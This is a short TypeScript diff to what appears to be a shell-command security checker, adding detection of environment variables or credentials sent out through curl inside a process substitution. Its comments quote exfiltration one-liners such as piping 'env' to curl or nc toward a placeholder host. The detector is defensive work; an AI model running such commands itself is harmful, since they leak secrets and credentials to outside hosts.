@@ -48,6 +48,12 @@ function environmentSent(cmd: SimpleCommand, all: SimpleCommand[]): string | und
     if (inner) return `what \`${inner.program}\` prints, fed to it`;
     if (r.op === "<<<" && r.dynamic?.some((d) => SECRET_VARIABLE.test(d))) return "a credential variable";
   }
+  // `env | tee >(curl -d @- URL)`: a sender inside a process substitution of a later stage.
+  if (cmd.depth > 0) {
+    const printer = all.find((c) => c.depth < cmd.depth && (printsEnvironment(c) || printsSecretVariable(c)));
+    const host = printer && all.find((t) => t.pipeline === printer.pipeline && t.stage > printer.stage && t.raw.includes(cmd.raw.trim()));
+    if (printer && host) return `what \`${printer.program}\` prints, through ${host.program}`;
+  }
   // `env > e; curl -F f=@e URL`, `nc host 80 < e`.
   const files = environmentFiles(all, cmd);
   const named = (file: string) => cmd.args.some((a) => a === file || a.endsWith(`@${file}`) || a.endsWith(`<${file}`) || a.endsWith(`=${file}`)) || cmd.redirects.some((r) => r.op === "<" && r.target === file);
